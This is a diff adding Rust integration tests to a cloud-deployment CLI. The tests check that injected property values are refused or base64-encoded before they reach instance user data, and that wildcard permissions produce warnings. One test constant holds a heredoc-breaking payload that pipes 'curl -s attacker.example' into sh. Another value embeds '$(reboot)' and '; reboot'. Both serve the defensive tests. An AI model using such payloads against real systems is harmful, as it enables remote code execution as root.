@@ -283,3 +283,93 @@ fn a_closed_stdout_pipe_is_not_a_panic() {
     let stderr = String::from_utf8_lossy(&output.stderr);
     assert!(!stderr.contains("panicked"), "{stderr}");
 }
+
+const BANNER_SPEC: &str = "variable \"banner\" {\n  type = string\n}\n\napplication \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  properties = {\n    BANNER = var.banner\n  }\n}\n";
+
+/// A property value that would end the user data's heredoc and run as root at boot.
+const INJECTION: &str = "hello\nBEANPOLE_PROPERTIES\ncurl -s attacker.example | sh";
+
+#[test]
+fn a_property_value_with_a_newline_is_refused_where_it_is_used_from_every_input() {
+    // --var with a real newline in the argument.
+    let (code, _, stderr) = run_in(
+        &[("main.hcl", BANNER_SPEC)],
+        &["validate", "-C", ".", "--var", &format!("banner={INJECTION}")],
+    );
+    assert_eq!(code, Some(1), "{stderr}");
+    assert!(stderr.contains("--> main.hcl:13:14"), "{stderr}");
+    assert!(stderr.contains("control character"), "{stderr}");
+    // BEANPOLE_VAR_* from the environment.
+    let dir = TempDir::new("injection");
+    dir.write("main.hcl", BANNER_SPEC);
+    let out = run(beanpole(dir.path())
+        .env("BEANPOLE_VAR_banner", INJECTION)
+        .args(["graph", "-C", ".", "--format", "json"]));
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("--> main.hcl:13:14"), "{stderr}");
+    assert!(out.stdout.is_empty(), "no graph, so no user data, is made");
+}
+
+#[test]
+fn a_property_value_with_shell_syntax_reaches_the_user_data_only_encoded() {
+    let value = "it's \"quoted\" $(reboot) `reboot` ; reboot";
+    let (code, stdout, stderr) = run_in(
+        &[("main.hcl", BANNER_SPEC)],
+        &["graph", "-C", ".", "--format", "json", "--var", &format!("banner={value}")],
+    );
+    assert_eq!(code, Some(0), "{stderr}");
+    let graph: Value = serde_json::from_str(&stdout).unwrap();
+    let template = graph["nodes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|n| n["kind"] == "launch_template")
+        .expect("a launch template");
+    let user_data = template["attributes"]["user_data"].as_str().unwrap();
+    assert!(!user_data.contains("reboot"), "{user_data}");
+    // The properties file is one base64 line, decoded on the instance.
+    let line = user_data
+        .lines()
+        .find(|l| l.contains("base64 -d > /etc/beanpole/environment"))
+        .expect("the properties line");
+    let encoded = line.split('\'').nth(1).unwrap();
+    assert!(encoded
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c)));
+}
+
+#[test]
+fn a_wildcard_action_is_a_warning_not_an_error() {
+    let spec = "application \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  permissions {\n    statement {\n      actions   = [\"*\"]\n      resources = [\"*\"]\n    }\n  }\n}\n";
+    let (code, stdout, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(stdout.contains("is valid"), "{stdout}");
+    assert!(
+        stderr.contains("warning: broad permission: `actions = [\"*\"]` allows every action"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("--> main.hcl:10:20"), "{stderr}");
+}
+
+#[test]
+fn a_usage_error_exits_1_even_with_detailed_exitcode() {
+    let (code, _, stderr) = run_in(&[], &["plan", "--detailed-exitcode", "--no-such-flag"]);
+    assert_eq!(code, Some(1), "{stderr}");
+    let (code, _, _) = run_in(&[], &["--help"]);
+    assert_eq!(code, Some(0));
+}
+
+#[test]
+fn absurd_durations_are_refused_without_a_panic() {
+    for args in [
+        &["swap", "a", "b", "--interval", "999999999999999999m"][..],
+        &["swap", "a", "b", "--interval", "99999999999999999999999"],
+        &["status", "--interval", "soon"],
+    ] {
+        let (code, _, stderr) = run_in(&[], args);
+        assert_eq!(code, Some(1), "{args:?}: {stderr}");
+        assert!(stderr.contains("--interval"), "{stderr}");
+        assert!(!stderr.contains("panicked"), "{stderr}");
+    }
+}
